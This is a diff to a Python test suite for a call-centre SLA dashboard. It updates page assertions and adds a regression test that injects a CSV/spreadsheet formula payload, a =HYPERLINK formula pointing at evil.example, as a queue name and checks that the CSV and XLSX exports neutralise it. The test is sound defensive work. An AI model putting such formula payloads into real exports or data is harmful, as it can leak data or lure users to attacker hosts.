@@ -23,6 +23,7 @@ and off again.
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, datetime
 from pathlib import Path
@@ -146,7 +147,10 @@ async def test_sl1_ring_cadence_setting_moves_the_threshold(manager, monkeypatch
 async def test_sl1_page_and_fragment_show_today(manager) -> None:
     page = await manager.page("/sla/")
     assert page.status_code == 200
-    assert 'id="today"' in page.text and 'fetch("/sla/today"' in page.text
+    # The refresh script is a static file (no inline script under the CSP); it reads the
+    # fragment's address from the box it fills.
+    assert 'id="today" aria-live="polite" data-src="/sla/today"' in page.text
+    assert '<script src="/sla/static/js/sla-dashboard.js">' in page.text
     fragment = await manager.page("/sla/today")
     assert fragment.status_code == 200
     assert "<html" not in fragment.text  # the live part alone
@@ -205,3 +209,36 @@ async def test_sl1_history_refuses_bad_input_naming_the_field(manager) -> None:
 async def test_sl1_agents_may_not_see_the_dashboard(login_as) -> None:
     agent = await login_as("ana", Role.AGENT)
     assert (await agent.get("/sla/api/today")).status_code == 403
+
+
+async def test_issue14_a_hostile_queue_name_exports_as_inert_text(
+    tmp_path, sessionmaker, login_as
+) -> None:
+    clock.set_now(NOW)
+    hostile = '=HYPERLINK("http://evil.example/?q","queue")'
+    h9 = T - 3600
+    await ingest(
+        tmp_path,
+        sessionmaker,
+        [
+            f"{h9}|c9|{hostile}|NONE|ENTERQUEUE||13711112222|1",
+            f"{h9 + 3}|c9|{hostile}|PJSIP/801|CONNECT|3|c9b|3",
+            f"{h9 + 63}|c9|{hostile}|PJSIP/801|COMPLETECALLER|3|60|1",
+        ],
+    )
+    manager = await login_as("gm", Role.GENERAL_MANAGER)
+    query = "interval=hour&from=2026-11-18&to=2026-11-18"
+
+    csv_text = (await manager.get(f"/sla/history.csv?{query}")).text.lstrip("\ufeff")
+    xlsx = await manager.get(f"/sla/history.xlsx?{query}")
+
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    assert ["2026-11-18 09:00", "'" + hostile, "1", "1"] in [r[:4] for r in rows]
+    assert "'=HYPERLINK" in csv_text
+    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    queue = sheet["B2"]
+    assert (queue.value, queue.data_type, queue.quotePrefix) == (hostile, "s", True)
+    assert [c.value for c in sheet[2][2:4]] == [1, 1]  # figures stay numbers
